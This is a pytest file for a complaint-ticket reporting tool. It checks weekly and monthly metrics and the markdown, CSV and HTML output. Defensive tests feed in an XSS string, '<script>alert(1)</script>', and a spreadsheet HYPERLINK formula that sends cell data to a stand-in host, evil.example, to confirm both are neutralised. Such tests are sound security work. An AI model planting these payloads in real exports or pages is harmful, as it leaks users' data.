"""The weekly complaint report on tickets created here: every metric, in md, csv and html."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
import yaml

from crisiswatch.config import TicketSettings
from crisiswatch.db import connect
from crisiswatch.mention import Author, Mention
from playbooks.tickets.report import build_report, period_bounds, render
from playbooks.tickets.service import TicketService
from tests.conftest import config_dict

END = datetime(2025, 6, 20, 0, 0, tzinfo=UTC)


class Clock:
    def __init__(self, now: datetime) -> None:
        self.now = now

    def __call__(self) -> datetime:
        return self.now


def post(n: int, text: str, category: str, source: str = "weibo", author: str | None = None,
         severity: str = "一般", name: str = "") -> Mention:
    return Mention(source=source, native_id=str(n), url=f"https://example.com/{n}", text=text, category=category,
                   author=Author(id=author or f"a{n}", name=name or f"用户{n}"), created_at=END - timedelta(days=3),
                   brands=["aurora"], severity=severity)


def walk(tickets: TicketService, t, clock: Clock, *actions: str, score: int | None = None):
    for action in actions:
        clock.now += timedelta(hours=2)
        # a dissatisfied 回访 would send the case back to handling: these stay resolved, closed saying why
        close_reason = "诉求超出政策" if action == "followup" and score is not None and score <= 2 else None
        t = tickets.transition(t.id, action, actor="agent", expected_version=t.version,
                               note="已核查并为您补发" if action == "reply" else None, via="在线客服" if action == "reply" else None,
                               satisfaction=score if action == "followup" else None, close_reason=close_reason)
    return t


@pytest.fixture
def filled(tmp_path):
    clock = Clock(END - timedelta(days=3))
    tickets = TicketService(connect(tmp_path / "cw.db"), clock=clock)
    a = tickets.convert([post(1, "极光优选快递十天没到", "logistics", name="<script>alert(1)</script>")], actor="x")
    walk(tickets, a, clock, "accept", "start", "reply", "resolve", "followup", score=5)       # 8 h, one reply
    b = tickets.convert([post(2, "客服挂我电话", "service_attitude", source="jd")], actor="x")
    walk(tickets, b, clock, "accept", "start", "reply", "reply", "resolve", "followup", score=2)  # two replies
    c = tickets.convert([post(3, "又是快递没到", "logistics", author="a1")], actor="x")  # repeat
    clock.now = END - timedelta(days=3) + timedelta(days=2)
    tickets.check_sla()  # c was never acknowledged: breached
    clock.now = END - timedelta(days=30)  # outside the week
    tickets.convert([post(4, "上个月的投诉", "price")], actor="x")
    return tickets, c


def test_weekly_report_has_every_metric(filled):
    tickets, repeat = filled
    r = build_report(tickets, "7d", until=END)
    assert r.total == 3 and r.resolved == 2
    assert r.channels == {"social": 2, "third_party": 1}  # Weibo is social media, JD a third-party platform
    assert r.categories == {"logistics": 2, "service_attitude": 1}
    assert r.mean_handling_hours == pytest.approx((8 + 10) / 2)
    assert r.first_contact_resolution == pytest.approx(0.5)
    assert r.satisfaction_mean == pytest.approx(3.5) and r.satisfaction == {2: 1, 5: 1}
    assert r.repeat_rate == pytest.approx(1 / 3) and r.sla_breach_rate == pytest.approx(1 / 3)
    assert r.top_problems[0]["category"] == "logistics" and r.top_problems[0]["count"] == 2
    assert "快递十天没到" in r.top_problems[0]["examples"][0]["text"]
    assert build_report(tickets, "30d", until=END).total == 4


def test_report_renders_as_markdown_csv_and_html(filled):
    tickets, _ = filled
    r = build_report(tickets, "7d", until=END)
    md = render(r, "md")
    for label in ("投诉总量", "渠道占比", "类别分布", "平均处理时长", "一次解决率", "满意度", "重复投诉率", "超时率",
                  "主要问题"):
        assert label in md
    assert "| 一次解决率 First-contact resolution | 50.0% |" in md and "| 超时率 SLA breach rate | 33.3% |" in md
    rows = list(csv.DictReader(io.StringIO(render(r, "summary-csv"))))
    metrics = {row["key"]: row["value"] for row in rows if row["section"] == "metric"}
    assert metrics == {"total": "3", "complaint_rate": "-", "resolved": "2", "mean_handling_hours": "9.00",
                       "on_time_rate": "100.0%", "first_contact_resolution": "50.0%", "satisfaction_mean": "3.50", "satisfaction_count": "2",
                       "repeat_rate": "33.3%", "sla_breach_rate": "33.3%"}
    assert {row["key"]: row["share"] for row in rows if row["section"] == "channel"} == {"social": "66.7%",
                                                                                        "third_party": "33.3%"}
    page = render(r, "html")
    # channels, categories, grades, departments, satisfaction, daily trend, hours, backlog
    assert page.count('src="data:image/png;base64,') == 8
    assert "<script>alert(1)</script>" not in page and "&lt;script&gt;" in page
    assert "重复投诉率" in page and "https://example.com/1" in page
    assert "<td>社交媒体</td>" in page and "<td>social</td>" not in page  # channels by name, as categories are
    assert "| 社交媒体 | 2 | 66.7% |" in md


def test_post_text_in_a_csv_never_runs_as_a_spreadsheet_formula(tmp_path):
    clock = Clock(END - timedelta(days=3))
    tickets = TicketService(connect(tmp_path / "cw.db"), clock=clock)
    formula = '=HYPERLINK("http://evil.example/?x="&B2,"极光优选快递丢了，点此查看")'
    tickets.convert([post(1, formula, "logistics")], actor="x")
    tickets.convert([post(2, "@所有人 极光优选快递又丢了", "logistics")], actor="x")
    rows = list(csv.DictReader(io.StringIO(render(build_report(tickets, "7d", until=END), "summary-csv"))))
    [top] = [row for row in rows if row["section"] == "top_problem"]
    assert top["share"] in ("'" + formula, "'@所有人 极光优选快递又丢了")  # a leading ' makes it text
    metrics = {row["key"]: row["value"] for row in rows if row["section"] == "metric"}
    assert metrics["complaint_rate"] == "-" and metrics["total"] == "2"  # numbers and "-" stay as they were


def test_report_command_writes_a_file(tmp_path, capsys, filled):
    from crisiswatch.cli import main

    cfg = tmp_path / "crisiswatch.yaml"
    cfg.write_text(yaml.safe_dump(config_dict(tmp_path), allow_unicode=True), encoding="utf-8")
    out = tmp_path / "week.html"
    assert main(["--config", str(cfg), "report", "--period", "7d", "--format", "html", "--out", str(out),
                 "--until", END.isoformat()]) == 0
    assert out.read_text(encoding="utf-8").startswith("<!doctype html>")
    assert main(["--config", str(cfg), "report", "--until", "yesterday"]) == 1
    assert capsys.readouterr().err.strip() == "crisiswatch: --until: bad time 'yesterday' (use ISO 8601)"


def test_csv_lists_each_ticket_of_the_period(filled):
    tickets, repeat = filled
    rows = list(csv.DictReader(io.StringIO(render(build_report(tickets, "7d", until=END), "csv"))))
    inside = sorted(t.number for t in tickets.list(since=END - timedelta(days=7), until=END))
    assert sorted(r["number"] for r in rows) == inside and len(rows) == 3
    assert list(rows[0]) == ["number", "channel", "category", "grade", "owner", "department", "status", "opened",
                             "first_response", "resolved", "breached", "satisfaction"]
    first = next(r for r in rows if r["category"] == "service_attitude")
    # 08:00 UTC three days before the end is 11:00 in Shanghai: every time is in the team's zone
    assert first["channel"] == "third_party" and first["opened"].startswith("2025-06-17 1")
    assert first["satisfaction"] == "2" and first["resolved"]
    assert next(r for r in rows if r["number"] == repeat.number)["breached"] == "1"


def test_trend_hours_backlog_agents_and_complaint_rate(tmp_path):
    clock = Clock(datetime(2025, 6, 16, 2, 0, tzinfo=UTC))  # Monday 10:00 in Shanghai
    tickets = TicketService(connect(tmp_path / "cw.db"), clock=clock,
                            settings=TicketSettings(staff={"林": "客服", "周": "调查"}))
    made = []
    for day, hour, owner in [(0, 2, "林"), (0, 2, "林"), (1, 6, "周"), (3, 2, "")]:
        clock.now = datetime(2025, 6, 16, hour, 0, tzinfo=UTC) + timedelta(days=day)
        made.append(tickets.intake(channel="phone", customer="顾客", contact="13800000000", summary=f"快递没到{day}",
                                   category="logistics", severity="一般", owner=owner, actor="x"))
    walk(tickets, made[0], clock, "accept", "start", "reply", "resolve", "followup", score=4)
    t = walk(tickets, made[1], clock, "accept", "start", "reply", "resolve", "followup", score=2)
    walk(tickets, t, clock, "reopen")  # reopened: its 回访 score of 2 still counts
    r = build_report(tickets, "7d", until=datetime(2025, 6, 20, 16, 0, tzinfo=UTC), orders=2000)
    assert r.total == 4 and r.complaint_rate == pytest.approx(4 / 2000)
    assert r.satisfaction_mean == pytest.approx(3.0) and r.satisfaction_count == 2
    assert r.daily["2025-06-16"]["opened"] == 2 and r.daily["2025-06-17"]["opened"] == 1
    assert r.daily["2025-06-19"] == {"opened": 1, "resolved": 1}  # the reopened one counts as resolved no more
    assert r.busiest_hours[0] == (10, 3)  # 10:00 Shanghai
    assert r.backlog == {"<1天": 0, "1-3天": 1, "3-7天": 2, "7-15天": 0, ">15天": 0}
    lin = next(a for a in r.agents if a["owner"] == "林")
    assert (lin["tickets"], lin["resolved"], lin["satisfaction"]) == (2, 1, 3.0)
    assert lin["resolution_rate"] == pytest.approx(0.5)
    md = render(r, "md")
    for label in ("投诉率", "趋势", "集中时段", "未结积压", "客服绩效", "| 林 | 2 | 50.0% |"):
        assert label in md


def test_report_command_prints_one_csv_row_per_ticket(tmp_path, capsys, filled):
    from crisiswatch.cli import main

    tickets, _ = filled
    assert main(["--db", str(tmp_path / "cw.db"), "report", "--period", "7d", "--format", "csv", "--until", END.isoformat()]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert sorted(r["number"] for r in rows) == sorted(
        t.number for t in tickets.list(since=END - timedelta(days=7), until=END))


def test_a_section_with_nothing_in_it_says_so_and_draws_no_chart(tmp_path):
    clock = Clock(datetime(2025, 6, 16, 2, 0, tzinfo=UTC))
    tickets = TicketService(connect(tmp_path / "cw.db"), clock=clock)
    tickets.intake(channel="email", customer="顾客", contact="a@example.com", summary="快递没到", category="logistics",
                   severity="一般", actor="x")  # no 回访 yet: no satisfaction scores
    page = render(build_report(tickets, "7d", until=datetime(2025, 6, 20, 16, 0, tzinfo=UTC)), "html")
    satisfaction = page[page.index("满意度分布"):page.index("趋势 Daily")]
    assert "暂无 none" in satisfaction and "data:image/png" not in satisfaction
    assert "<td>邮件</td>" in page


SHANGHAI = ZoneInfo("Asia/Shanghai")


def test_week_and_month_are_the_last_complete_calendar_ones_in_the_team_zone():
    def bounds(period, *until):
        since, end = period_bounds(period, datetime(*until, tzinfo=SHANGHAI), SHANGHAI)
        return since.strftime("%Y-%m-%d %H:%M"), end.strftime("%Y-%m-%d %H:%M")

    # a month report was the 30 days before --until: "February" began on 30 January
    assert bounds("month", 2025, 3, 1) == ("2025-02-01 00:00", "2025-03-01 00:00")
    assert bounds("month", 2025, 2, 15, 10) == ("2025-01-01 00:00", "2025-02-01 00:00")
    assert bounds("month", 2025, 1, 1, 0, 5) == ("2024-12-01 00:00", "2025-01-01 00:00")
    assert bounds("week", 2025, 6, 18, 9) == ("2025-06-09 00:00", "2025-06-16 00:00")  # a Wednesday: last week
    assert bounds("week", 2025, 6, 16) == ("2025-06-09 00:00", "2025-06-16 00:00")  # Monday midnight: the week ended
    assert bounds("7d", 2025, 6, 18, 9) == ("2025-06-11 09:00", "2025-06-18 09:00")


def test_a_january_report_holds_january_as_it_was(tmp_path):
    clock = Clock(datetime(2025, 1, 1, 10, 0, tzinfo=SHANGHAI))
    tickets = TicketService(connect(tmp_path / "cw.db"), clock=clock)
    first = tickets.intake(channel="phone", customer="顾客", contact="13800000000", summary="元旦的快递没到",
                           category="logistics", severity="一般", actor="x")
    clock.now = datetime(2025, 1, 31, 20, 0, tzinfo=SHANGHAI)
    tickets.intake(channel="phone", customer="顾客", contact="13800000001", summary="月底的快递没到",
                   category="logistics", severity="一般", actor="x")
    january = build_report(tickets, "month", until=datetime(2025, 2, 10, tzinfo=SHANGHAI))
    assert january.total == 2  # the 1 January one was outside "the last 30 days"
    assert list(january.daily) == [f"2025-01-{d:02d}" for d in range(1, 32)]  # and no 1 February
    assert sum(january.backlog.values()) == 2
    clock.now = datetime(2025, 2, 12, 9, 0, tzinfo=SHANGHAI)  # closed after the month: January stays as it was
    walk(tickets, first, clock, "accept", "start", "reply", "resolve")
    assert build_report(tickets, "month", until=datetime(2025, 2, 20, tzinfo=SHANGHAI)).backlog == january.backlog


def test_repeat_rate_counts_the_same_customer_again_not_others_with_the_same_grievance(tmp_path):
    clock = Clock(datetime(2025, 6, 16, 2, 0, tzinfo=UTC))
    tickets = TicketService(connect(tmp_path / "cw.db"), clock=clock)
    for name, contact in (("王女士", "13800000001"), ("李先生", "13800000002"), ("王女士", "13800000001")):
        clock.now += timedelta(hours=3)  # two customers; the first calls back
        tickets.intake(channel="phone", customer=name, contact=contact, summary="极光快递十天没到 物流不更新",
                       category="logistics", severity="一般", actor="x")
    reasons = [r["reason"] for t in tickets.list() for r in t.related if r["direction"] == "earlier"]
    assert sorted(reasons) == ["same_contact", "same_topic", "same_topic"]  # linked all the same, for the agent
    r = build_report(tickets, "7d", until=datetime(2025, 6, 20, 16, 0, tzinfo=UTC))
    assert r.repeat_rate == pytest.approx(1 / 3)


def test_a_past_month_reads_the_same_after_its_tickets_move_on(tmp_path):
    clock = Clock(datetime(2025, 1, 2, 10, 0, tzinfo=SHANGHAI))
    tickets = TicketService(connect(tmp_path / "cw.db"), clock=clock)
    first = tickets.intake(channel="phone", customer="顾客", contact="13800000000", summary="元旦的快递没到",
                           category="logistics", severity="一般", actor="x")
    for action in ("accept", "start", "reply"):  # each in time; the result (结果反馈) will be late in January
        clock.now += timedelta(minutes=10)
        first = tickets.transition(first.id, action, actor="agent", expected_version=first.version,
                                   note="已核查并为您补发" if action == "reply" else None, via="在线客服")
    clock.now = datetime(2025, 1, 31, 20, 0, tzinfo=SHANGHAI)  # the Spring Festival holiday: 受理 due 5 February
    tickets.intake(channel="phone", customer="顾客", contact="13800000001", summary="月底的快递没到",
                   category="logistics", severity="一般", actor="x")
    tickets.check_sla(datetime(2025, 2, 3, 9, 0, tzinfo=SHANGHAI))  # as `report` sweeps before it reports
    early = build_report(tickets, "month", until=datetime(2025, 2, 3, 9, 0, tzinfo=SHANGHAI))
    assert (early.resolved, early.satisfaction_count, early.sla_breach_rate) == (0, 0, 0.5)
    clock.now = datetime(2025, 2, 12, 9, 0, tzinfo=SHANGHAI)  # in February: resolved, scored, the other one late
    first = walk(tickets, tickets.require(first.id), clock, "resolve", "followup", score=2)
    assert tickets.check_sla(clock.now)["breaches"]
    late = build_report(tickets, "month", until=datetime(2025, 2, 20, tzinfo=SHANGHAI))
    assert late.metrics() == early.metrics() and late.agents == early.agents
    assert render(late, "csv") == render(early, "csv") and late.daily == early.daily


def test_departments_and_on_time_rate_reconcile_with_the_tickets(tmp_path):
    clock = Clock(datetime(2025, 6, 16, 2, 0, tzinfo=UTC))  # Monday 10:00 in Shanghai
    tickets = TicketService(connect(tmp_path / "cw.db"), clock=clock)
    made = [tickets.intake(channel="phone", customer=f"顾客{i}", contact=f"1380000000{i}", summary=summary,
                           category=category, severity="紧急", actor="x")
            for i, (category, summary) in enumerate([("logistics", "快递没到"), ("product_quality", "屏幕坏点"),
                                                     ("payment_billing", "重复扣款"), ("logistics", "包裹丢了")])]
    assert [t.department for t in made] == ["客服", "调查", "技术", "客服"]  # the routing table
    walk(tickets, made[0], clock, "accept", "start", "reply", "resolve")  # within 紧急's 5 working days
    clock.now += timedelta(days=10)
    walk(tickets, made[1], clock, "accept", "start", "reply", "resolve")  # 10 days on: past 办结
    t = tickets.require(made[3].id)
    tickets.assign(t.id, "法律", actor="x", expected_version=t.version)
    until = clock.now + timedelta(hours=1)
    r = build_report(tickets, "30d", until=until)
    assert r.departments == {"客服": 1, "调查": 1, "技术": 1, "法律": 1}
    assert sum(r.departments.values()) == r.total == len(tickets.list())
    assert r.on_time_rate == pytest.approx(1 / 2)
    md = render(r, "md")
    assert "| 按时办结率 Resolved on time | 50.0% |" in md and "## 部门 Lead department" in md and "| 法律 | 1 | 25.0% |" in md
    t = tickets.require(made[3].id)
    tickets.assign(t.id, "客服", actor="x", expected_version=t.version, now=until + timedelta(days=1))
    assert build_report(tickets, "30d", until=until).departments == r.departments  # as it stood then
